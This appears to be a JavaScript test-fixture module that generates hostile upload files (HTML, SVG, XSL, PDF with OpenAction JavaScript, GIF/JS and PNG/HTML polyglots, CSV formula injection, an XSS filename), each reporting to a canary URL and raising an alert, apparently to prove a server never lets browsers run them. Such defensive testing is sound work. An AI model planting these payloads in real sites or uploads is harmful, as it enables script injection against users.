// Files that would run in a browser if it let them. Each tells the canary, by a name of its own, that it ran: a request
// to the site it stands on, one to another site, a word in the storage of the site, and a dialog.
export const RAN = '/ran/';

const tells = (name, canary) =>
  `fetch('${RAN}${name}').catch(()=>{});fetch('${canary}${RAN}${name}',{mode:'no-cors'}).catch(()=>{});try{localStorage.setItem('ran','${name}');alert('${name}')}catch{}`;

/** `as` is the kind under which a browser runs a file, where there is one, `sings` which file is then heard: so the canary
 * itself is proved. */
export function hostileFiles(canary) {
  const script = (name) => tells(name, canary);
  const html = (name) => `<!doctype html><title>x</title><img src="x:" onerror="${script(name)}"><script>${script(name)}</script>`;
  const svg = (name) =>
    `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="${script(name)}"><script>${script(name)}</script><circle cx="20" cy="20" r="15"/></svg>`;
  const file = (name, content, as, sings = name) => ({ name, as, sings, bytes: Buffer.isBuffer(content) ? content : Buffer.from(content) });
  return [
    file('page.html', html('page.html'), 'text/html'),
    file('utf-16.html', Buffer.from(`\ufeff${html('utf-16.html')}`, 'utf16le'), 'text/html'),
    file('page.xhtml', `<html xmlns="http://www.w3.org/1999/xhtml"><script>${script('page.xhtml')}</script></html>`, 'application/xhtml+xml'),
    file('drawing.svg', svg('drawing.svg'), 'image/svg+xml'),
    file('sheet.xml', `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="style.xsl"?><r/>`, 'text/xml', 'style.xsl'),
    file(
      'style.xsl',
      `<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>${script('style.xsl')}</script></html></xsl:template></xsl:stylesheet>`,
    ),
    file('script.js', `globalThis.ran='script.js';${script('script.js')}`, 'text/javascript'),
    file('image.gif', Buffer.from(`GIF89a/*\0\0\0\0\0\0*/=1;${script('image.gif')}//;`, 'latin1'), 'text/javascript'),
    file('both.png', Buffer.concat([PIXEL, Buffer.from(html('both.png'))]), 'text/html'),
    file('both.pdf', `<!--${sheetWith('')}-->${html('both.pdf')}`, 'text/html'),
    file('sheet.pdf', sheetWith(script('sheet.pdf').replaceAll(/[()\\]/g, '\\$&'))),
    file('page.mhtml', mhtml(html('page.mhtml'))),
    file('table.csv', `part,count\n"<img src=x: onerror=""${script('table.csv').replaceAll('"', '""')}"">",1\n=HYPERLINK("javascript:alert(1)"),2\n`),
    file('plate.dxf', dxfWith(`<img src=x: onerror=${script('plate.dxf')}>`)),
    file('part.obj', `o <img/src=x:/onerror=${script('part.obj')}>\nv 0 0 0\nv 1 0 0\nv 0 1 0\nf 1 2 3\n`),
    file(`<img src=x onerror=alert('name')>.txt`, 'Only the name is strange.'),
  ];
}

const PIXEL = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC', 'base64');

/** A sheet that runs this when it opens, and has a link that is a script. */
function sheetWith(action) {
  const acts = action ? `/OpenAction<</S/JavaScript/JS(${action}app.alert\\(1\\);)>>` : '';
  return [
    '%PDF-1.4',
    `1 0 obj<</Type/Catalog/Pages 2 0 R${acts}>>endobj`,
    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj',
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(javascript:alert\\(1\\))>>>>]>>endobj',
    'trailer<</Root 1 0 R/Size 4>>',
    '%%EOF',
  ].join('\n');
}

function mhtml(page) {
  const head = 'From: <Saved>\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; boundary="part"\r\n\r\n';
  return `${head}--part\r\nContent-Type: text/html\r\nContent-Location: http://x/\r\n\r\n${page}\r\n--part--\r\n`;
}

/** A line on a layer of this name. */
function dxfWith(layer) {
  const table = [[0, 'SECTION'], [2, 'TABLES'], [0, 'TABLE'], [2, 'LAYER'], [70, 1], [0, 'LAYER'], [2, layer], [70, 0], [62, 7], [6, 'CONTINUOUS'], [0, 'ENDTAB'], [0, 'ENDSEC']];
  const pairs = [...table, [0, 'SECTION'], [2, 'ENTITIES'], [0, 'LINE'], [8, layer], [10, 0], [20, 0], [11, 100], [21, 50], [0, 'ENDSEC'], [0, 'EOF']];
  return `${pairs.map(([code, value]) => `${code}\n${value}`).join('\n')}\n`;
}
